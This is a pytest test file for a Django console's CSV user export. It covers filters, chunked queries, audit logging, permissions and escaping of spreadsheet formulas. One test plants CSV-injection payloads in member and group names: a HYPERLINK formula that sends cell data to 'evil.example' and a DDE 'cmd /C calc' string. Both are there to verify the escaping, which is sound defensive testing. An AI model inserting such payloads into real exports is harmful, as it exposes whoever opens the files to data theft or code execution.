"""The CSV export of the Users page (U-17): its contents, and that spreadsheets run no formulas in it."""

import csv
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from audit.models import Entry
from base.spreadsheets import escape_formulas
from console.tests.people import USERS, expire, in_groups, joined, pending
from console.tests.people import names as names_shown
from console.users import export, selection
from console.users.export import export_lines
from console.users.filters import Tab
from console.users.params import UserListParams
from console.users.selection import Selection
from organizations.models import Group, Membership
from teamadmin.testing.cast import add_member, add_user
from teamadmin.testing.html import text_of

pytestmark = [pytest.mark.django_db, pytest.mark.spec("U-17")]
EXPORT = f"{USERS}export/"


def rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def names(response) -> list[str]:
    return [row[0] for row in rows(response)[1:]]


def test_the_file_has_the_columns_and_rows_of_the_page(cast):
    client = cast.client("olga")
    response = client.get(EXPORT, {"view": ""})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="users.csv"'
    table = rows(response)
    headings = ["Name", "Email", "Role", "Groups", "Projects", "Status", "2FA", "Last active"]
    assert table[0] == headings
    bo = dict(zip(headings, table[1], strict=True))
    assert [bo[heading] for heading in headings[:7]] == [
        "Bo Lindqvist",
        "bo@acme.example",
        "Builder",
        "Marketing",
        "2",
        "Active",
        "Off",
    ]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", bo["Last active"])
    assert [row[0] for row in table[1:]] == ["Bo Lindqvist", "Max Keller", "Olga Ivanova", "Opal Nakamura"]


def test_the_file_follows_search_filters_sort_and_columns(cast):
    expire(cast.invite(people=[("Eve", "Late", "eve@acme.example")])[0])
    pending(cast.acme, 2)
    client = cast.client("olga")
    assert names(client.get(EXPORT, {"view": "?sort=-name"}))[0] == "Opal Nakamura"
    assert names(client.get(EXPORT, {"view": "?q=kel"})) == ["Max Keller"]
    assert names(client.get(EXPORT, {"view": "?status=expired"})) == ["Eve Late"]
    assert names(client.get(EXPORT, {"view": f"?group={cast.groups['marketing'].pk}"})) == ["Bo Lindqvist"]
    assert names(client.get(EXPORT, {"view": f"?group={cast.globex_group.pk}"})) == []
    table = rows(client.get(EXPORT, {"view": "pending/?columns=invited_by,sent&sort=name"}))
    assert table[0] == ["Name", "Email", "Role", "Invited by", "Sent"] and table[1][3] == "Olga Ivanova"
    assert [row[0] for row in table[1:]] == ["Eve Late", "Guest 000 Test", "Guest 001 Test"]


def test_search_results_have_the_order_of_the_page(cast, monkeypatch):
    monkeypatch.setattr("console.users.selection.CHUNK", 2)
    named = [("Aaa", "Maria"), ("Zoe", "Mar"), ("Mara", "Z"), ("Marc", "A"), ("Nobody", "Else"), ("Mar", "Io")]
    for member, (first, last) in zip(joined(cast.acme, len(named)), named, strict=True):
        member.first_name, member.last_name = first, last
        member.save()
    client = cast.client("olga")
    for sort in ("name", "-name"):
        page = names_shown(client.get(USERS, {"q": "mar", "sort": sort}))
        assert names(client.get(EXPORT, {"view": f"?q=mar&sort={sort}"})) == page and len(page) == 5
        assert {"Mara Z", "Marc A", "Mar Io"} == set(page[:3])


def test_a_member_deleted_during_the_export_does_not_stop_it(cast, monkeypatch):
    deleted, load_details = joined(cast.acme, 2)[0], selection.load_details

    def delete_first(*args, **options):
        Membership.objects.filter(pk=deleted.pk).delete()
        return load_details(*args, **options)

    monkeypatch.setattr(selection, "load_details", delete_first)
    view = Selection(UserListParams(columns=("invited_by", "groups", "projects")), everyone=True)
    file = "".join(export.export_lines(cast.acme, view, timezone.now()))
    assert file.count("\r\n") == 7 and "Person 001" in file


def test_only_selected_members_or_all_matches(cast):
    client = cast.client("olga")
    selected = {"view": "", "member": [str(cast.bo.pk), str(cast.tess.pk)]}
    assert names(client.get(EXPORT, selected)) == ["Bo Lindqvist"]
    assert len(names(client.get(EXPORT, {**selected, "all": "1"}))) == 4


@pytest.mark.parametrize("sort", ["name", "-name", "role", "-last_active", "joined"])
def test_chunks_contain_every_member_once(cast, monkeypatch, sort):
    monkeypatch.setattr("console.users.selection.CHUNK", 7)
    joined(cast.acme, 30)
    pending(cast.acme, 10)
    for view in (f"?sort={sort}", f"?sort={sort}&status=everyone", f"?sort={sort}&q=test&status=everyone"):
        emails = [row[1] for row in rows(cast.client("olga").get(EXPORT, {"view": view}))[1:]]
        expected = Membership.objects.filter(organization=cast.acme)
        expected = expected.filter(last_name="Test") if "q=" in view else expected
        expected = expected if "everyone" in view else expected.exclude(status="invited")
        assert len(emails) == len(set(emails)) and set(emails) == set(expected.values_list("email", flat=True))


@pytest.mark.spec("P-1")
@pytest.mark.parametrize("sort", ["name", "-name", "role", "-last_active"])
def test_few_matches_are_gathered_once_however_many_chunks(cast, monkeypatch, sort):
    monkeypatch.setattr("console.users.selection.CHUNK", 5)
    members = joined(cast.acme, 40)
    in_groups(members[::2], [cast.groups["research"]])
    params = UserListParams.from_url(f"?sort={sort}&group={cast.groups['research'].pk}", organization_id=cast.acme.pk)
    with CaptureQueriesContext(connection) as captured:
        chunks = list(selection.iterate_selected(cast.acme, Selection(params, everyone=True), timezone.now()))
    assert [len(chunk) for chunk in chunks] == [5, 5, 5, 5]
    # Roles, how many the group has, and their ids; then two queries for each chunk.
    assert len(captured) == 3 + 2 * len(chunks)
    found = [member for chunk in chunks for member in chunk]
    assert found == sorted(found, key=lambda member: [getattr(member, key) for key in params.keys], reverse="-" in sort)


def test_each_chunk_of_a_long_export_has_the_same_query(cast, monkeypatch):
    monkeypatch.setattr("console.users.selection.CHUNK", 5)
    joined(cast.acme, 40)
    everyone = Selection(UserListParams.default(Tab.ALL), everyone=True)
    with CaptureQueriesContext(connection) as captured:
        chunks = list(selection.iterate_selected(cast.acme, everyone, timezone.now()))
    comparisons = [
        query["sql"].count('"sort_name", ') for query in captured if 'FROM "organizations_membership"' in query["sql"]
    ]
    assert len(chunks) > 8 and len(comparisons) >= len(chunks) and len(set(comparisons[1:])) == 1


def test_head_of_an_export_reads_no_members(cast, monkeypatch):
    monkeypatch.setattr("console.users.views.export_lines", lambda *args: pytest.fail("The export was read."))
    response = cast.client("olga").head(EXPORT)
    assert response.status_code == 200 and b"".join(response.streaming_content) == b""


def test_an_export_takes_two_queries_per_chunk_and_one_for_roles(cast, monkeypatch, django_assert_num_queries):
    in_groups(joined(cast.acme, 40), list(cast.groups.values()))
    everyone = Selection(UserListParams.default(Tab.ALL), everyone=True)
    with django_assert_num_queries(3):
        assert len(list(export_lines(cast.acme, everyone, timezone.now()))) == 2


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        (" =1", "' =1"),
        ("a,=1", "a,'=1"),
        ('a"=1', "a\"'=1"),
        ("a\n=1", "a\n'=1"),
        ("a; =1", "a;' =1"),
        ("＝1", "'＝1"),
        ("a=b", "a=b"),
        ("Jean-Luc O'Neil", "Jean-Luc O'Neil"),
        ("", ""),
        ("a\0b", "ab"),
    ],
)
def test_formulas_are_escaped(text, escaped):
    assert escape_formulas(text) == escaped


def test_formulas_in_names_are_escaped(cast):
    formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
    Membership.objects.filter(pk=cast.bo.pk).update(first_name=formula, last_name='"\n@x')
    Group.objects.filter(pk=cast.groups["marketing"].pk).update(name="-cmd|' /C calc'!A0")
    response = cast.client("olga").get(EXPORT, {"view": "?q=bo"})
    body = b"".join(response.streaming_content).decode()
    assert body.startswith("\ufeff") and body.count('"\r\n') == 2
    (row,) = list(csv.reader(io.StringIO(body[1:], newline=""), strict=True))[1:]
    assert row[0].startswith("'=HYPERLINK(") and "\n'@x" in row[0] and row[3] == "'-cmd|' /C calc'!A0"


def test_an_export_is_recorded_in_the_audit_log(cast):
    client = cast.client("max")
    client.head(EXPORT)
    assert not Entry.objects.filter(action="members.exported").exists()
    client.get(EXPORT, {"view": "?q=bo"})
    entry = Entry.objects.get(action="members.exported")
    assert entry.actor_id == cast.max.pk and entry.data == {"view": "?q=bo", "selected": 0}


def test_a_search_with_nul_characters_is_ignored(cast):
    client = cast.client("max")
    response = client.get(EXPORT, {"view": "?q=%00\0"})
    assert response.status_code == 200 and "Bo Lindqvist" in names(response)
    assert Entry.objects.get(action="members.exported").data == {"view": "", "selected": 0}


def test_an_export_requires_see_people(cast):
    cast.ria = add_member(cast.globex, add_user("ria@globex.example", "Ria", "Reader"), "read_only")
    assert names(cast.client("ria").get("/o/globex/users/export/")) == ["Ria Reader", "Tess Moreau"]
    response = cast.client("bo").get(EXPORT)
    assert response.status_code == 403 and "“See people”" in text_of(response)
